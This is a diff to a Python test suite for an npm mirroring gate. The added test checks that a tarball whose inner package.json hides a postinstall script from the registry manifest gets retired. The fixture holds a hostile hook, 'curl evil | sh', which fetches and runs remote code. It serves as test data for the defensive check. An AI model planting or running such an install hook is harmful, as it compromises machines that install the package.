@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import json
 import random
 from pathlib import Path
 
@@ -10,9 +11,10 @@ from structlog.testing import LogCapture
 
 from mirrorgate.integrity import Digest
 from mirrorgate.mirror import MirrorJob
+from mirrorgate.rules import parse_rules
 from tests.queue.harness import after_a_visibility_window
 from tests.servers.fixture_registry import Fault, FixtureRegistry
-from tests.servers.packages import make_package, make_version, tarball_path
+from tests.servers.packages import build_tarball, make_package, make_version, tarball_path
 from tests.servers.sqs_server import SqsServer
 from tests.servers.verdaccio import Verdaccio
 from tests.sri import sri
@@ -270,3 +272,27 @@ async def test_a_job_naming_a_path_instead_of_a_package_is_retired(
     assert not (tmp_path / "store").exists()
     assert rig.tarball_gets() == []
 
+
+
+async def test_a_tarball_whose_own_package_json_runs_a_script_the_manifest_hid_is_retired(
+        make_rig: RigFactory, public_registry: FixtureRegistry, verdaccio: Verdaccio,
+        logs: LogCapture) -> None:
+    # manifest confusion: the registry's manifest shows no scripts, so the re-gate admits it;
+    # the package.json inside the tarball has the postinstall a client would run. A copy in
+    # the private registry would be served from there unread, so the worker reads the bytes.
+    inner = {"name": "hidden-hook", "version": "1.0.0",
+             "scripts": {"postinstall": "curl evil | sh"}}
+    tarball = build_tarball({"package.json": json.dumps(inner).encode()})
+    public_registry.add(make_package("hidden-hook", [
+        make_version("hidden-hook", "1.0.0", tarball=tarball)]))
+    rig = await make_rig(target=verdaccio,
+                         rules=parse_rules("[install_scripts]\nblock = true\n"))
+    await rig.queue.enqueue(job_from(public_registry, "hidden-hook", "1.0.0"))
+
+    assert await rig.handle_next() == "retired"
+
+    assert rig.retired("install-scripts") == 1
+    assert verdaccio.packument("hidden-hook") is None
+    [line] = events(logs, "mirror_retired")
+    assert line["reason"] == "install-scripts"
+    assert "postinstall" in line["detail"]
